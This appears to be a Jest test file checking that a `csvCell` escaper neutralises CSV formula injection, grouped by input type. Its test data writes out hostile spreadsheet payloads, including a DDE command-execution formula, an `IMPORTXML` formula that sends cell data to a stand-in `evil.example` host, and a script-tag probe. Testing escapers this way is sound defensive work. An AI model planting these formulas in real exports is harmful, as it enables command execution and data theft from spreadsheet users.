import { describe, expect, it } from '@jest/globals';
import { csvCell } from './csv-cell.js';

/** More than fifty texts with their cells, grouped by the danger they pose. */
const CELLS: Readonly<Record<string, readonly (readonly [unknown, string])[]>> = {
  'texts that begin like a formula': [
    ['=1+1', `"'=1+1"`],
    ['=', `"'="`],
    ['==A1', `"'==A1"`],
    [`=cmd|' /C calc'!A0`, `"'=cmd|' /C calc'!A0"`],
    ['=HYPERLINK("https://evil.example","x")', `"'=HYPERLINK(""https://evil.example"",""x"")"`],
    [
      '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
      `"'=IMPORTXML(CONCAT(""https://evil.example/?"",A1),""//a"")"`,
    ],
    ['+1', `"'+1"`],
    ['+1.5550100', `"'+1.5550100"`],
    ['+49 30 1234', `"'+49 30 1234"`],
    ['+1+cmd|x', `"'+1+cmd|x"`],
    ['-1', `"'-1"`],
    ['-', `"'-"`],
    ['-2+3+cmd|x', `"'-2+3+cmd|x"`],
    ['--', `"'--"`],
    ['@SUM(1+1)', `"'@SUM(1+1)"`],
    ['@', `"'@"`],
    ['@example', `"'@example"`],
    ['@=1', `"'@=1"`],
  ],
  'texts that begin with a tab or a line break': [
    ['\t=1', `"'\t=1"`],
    ['\t', `"'\t"`],
    ['\ttext', `"'\ttext"`],
    ['\r=1', `"'\r=1"`],
    ['\rtext', `"'\rtext"`],
    ['\n=1', `"'\n=1"`],
    ['\r\n=1', `"'\r\n=1"`],
    ['\t\t@x', `"'\t\t@x"`],
  ],
  'texts that begin like a formula in full width': [
    ['＝1+1', `"'＝1+1"`],
    ['＋1', `"'＋1"`],
    ['－1', `"'－1"`],
    ['＠SUM(1)', `"'＠SUM(1)"`],
  ],
  'lists of values': [
    [['=1', 'x'], `"'=1|x"`],
    [['x', '=1'], 'x|=1'],
    [['-1', '"x"'], `"'-1|""x"""`],
    [['ns1.example', 'ns2.example'], 'ns1.example|ns2.example'],
    [[], ''],
  ],
  'texts with separators, quotes and line ends': [
    ['a,b', '"a,b"'],
    [',', '","'],
    ['a"b', '"a""b"'],
    ['"', '""""'],
    ['"=1"', '"""=1"""'],
    ['a","=1', '"a"",""=1"'],
    ['a\r\n=1', '"a\r\n=1"'],
    ['a\nb', '"a\nb"'],
    ['a\rb', '"a\rb"'],
    ['a,"b"\r\nc', '"a,""b""\r\nc"'],
  ],
  'harmless values': [
    ['', ''],
    [undefined, ''],
    [null, ''],
    [0, '0'],
    [-5, '-5'],
    ['a=b', 'a=b'],
    ['a-b+c@d.example', 'a-b+c@d.example'],
    ["'=1", "'=1"],
    [' =1', ' =1'],
    ['<script>alert(1)</script>', '<script>alert(1)</script>'],
    ['münchen.example', 'münchen.example'],
    ['a;b|c', 'a;b|c'],
  ],
};

describe('cells of CSV', () => {
  it.each(Object.entries(CELLS))('S74: %s stay one text in one cell', (_, cells) => {
    for (const [value, cell] of cells) expect([value, csvCell(value)]).toEqual([value, cell]);
  });
});
